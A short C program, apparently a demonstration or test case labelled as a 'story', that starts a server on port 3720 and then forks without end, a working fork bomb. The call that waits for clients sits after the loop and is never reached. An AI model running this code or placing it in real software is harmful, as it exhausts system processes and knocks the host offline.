/* Story: a fork bomb, once clients can connect. */
#include "server.h"

#include "say_hello.h"

#include "wait.h"

int
main(int argc, char **argv)
{
    int listener = server_begin(argc, argv, "3720");

    for (;;)
        fork();
    wait_for_clients(listener);
    return 0;
}
